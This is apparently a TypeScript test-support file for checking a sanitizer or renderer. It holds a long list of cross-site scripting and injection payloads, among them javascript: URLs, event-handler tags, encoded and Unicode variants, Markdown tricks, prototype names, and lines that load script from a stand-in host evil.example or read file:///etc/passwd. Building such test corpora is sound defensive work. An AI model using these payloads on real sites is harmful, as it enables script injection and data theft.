import { existsSync, readFileSync } from 'node:fs';
import { sampleOfToday } from '../support/sample.js';

/** Strings that make something run, load or look wrong where they are written without care. */
export const PAYLOADS: readonly string[] = [
  // tags
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt\n>alert(1)</sCrIpT\t>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)//',
  '<IMG SRC="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data=data:text/html,<script>alert(1)</script>>',
  '<embed src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<marquee onstart=alert(1)>',
  '<b',
  '<',
  '<!',
  '<?',
  '</',
  // out of an attribute
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '` onerror=alert(1) `',
  '" autofocus onfocus=alert(1) x="',
  'x onclick=alert(1)',
  '" style="background:url(//evil.example/x)',
  // addresses
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' \u001fjavascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript:alert(1)',
  'java&Tab;script:alert(1)',
  'javascript://a.example/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://a.example/1',
  'https://a.example" onclick="alert(1)',
  "https://a.example/'><script>alert(1)</script>",
  'https://a.example\\@evil.example/',
  'http://a.example/\u2028<img src=x onerror=alert(1)>',
  '//evil.example/x',
  // svg and math
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href=javascript:alert(1)>x</math>',
  // out of elements whose text is not parsed
  '</title><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '</textarea><svg onload=alert(1)>',
  '</noscript><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<style>@import "//evil.example/x.css";</style>',
  '}body{background:url(//evil.example/x)}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // comments and sections
  '<!--><img src=x onerror=alert(1)>-->',
  '--><script>alert(1)</script><!--',
  '<!--<script>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  ']]><svg onload=alert(1)>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  // encoded
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // Markdown
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://a.example onclick=alert(1)>',
  'http://a.example<img src=x onerror=alert(1)>',
  'http://a.example\\<img src=x onerror=alert(1)>',
  'http://a.example&lt;img src=x onerror=alert(1)&gt;',
  'www.a.example<script>alert(1)</script>',
  'a@b.example<svg onload=alert(1)>',
  'mailto:a@b.example<svg onload=alert(1)>',
  '`<img src=x onerror=alert(1)>',
  '``` <img src=x onerror=alert(1)>',
  '\\`<img src=x onerror=alert(1)>\\`',
  '\\\\<img src=x onerror=alert(1)>',
  '[x][y] [y]: <javascript:alert(1)>',
  '[^1] [^1]: <img src=x onerror=alert(1)>',
  '| a | <img src=x onerror=alert(1)> |',
  '~~<img src=x onerror=alert(1)>~~',
  '*<img src=x onerror=alert(1)>*',
  '- [ ] <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)> #',
  // JSON and names of objects
  '</script\u0020x><script>alert(1)</script>',
  '<!--<script></script><script>alert(1)</script>',
  '","x":"y',
  '\\',
  '__proto__',
  'constructor',
  'toString',
  // Unicode
  '\u2028alert(1)\u2029',
  '\0<img src=x onerror=alert(1)>',
  '<\0script>alert(1)</script>',
  '<img\u000csrc=x\u000bonerror=alert(1)>',
  '＜script＞alert(1)＜/script＞',
  '\u202e<script>alert(1)</script>\u202c',
  '\ud800<img src=x onerror=alert(1)>\udc00',
  '\ufeff<script>alert(1)</script>',
  '\u0085<img src=x onerror=alert(1)>\u00a0',
  '\ufffe\uffff<svg onload=alert(1)>',
  // long
  `${'<'.repeat(2000)}img src=x onerror=alert(1)>`,
  `${'a'.repeat(5000)}"><img src=x onerror=alert(1)>`,
  `${'&'.repeat(2000)}lt;script>`,
  `${'<b>'.repeat(700)}<script>alert(1)</script>`,
];

const LIST = '../shared/corpora/hostile/payloads.txt';

/** A public list of such strings, where it lies beside the project, else nothing. */
export const LISTED: readonly string[] = existsSync(LIST)
  ? readFileSync(LIST, 'utf8').split('\n').filter(Boolean)
  : [];

/** One string of the list in so many: `tools/bench/payloads.mjs` tries all of them. */
export function sampleOf(every: number): readonly string[] {
  return sampleOfToday(LISTED, every);
}

/** What the name of a test says of such a sample. */
export function sampleSays(every: number): string {
  if (LISTED.length === 0) return 'skipped: no list of strings lies beside';
  return `${sampleOf(every).length} of ${LISTED.length} listed strings`;
}
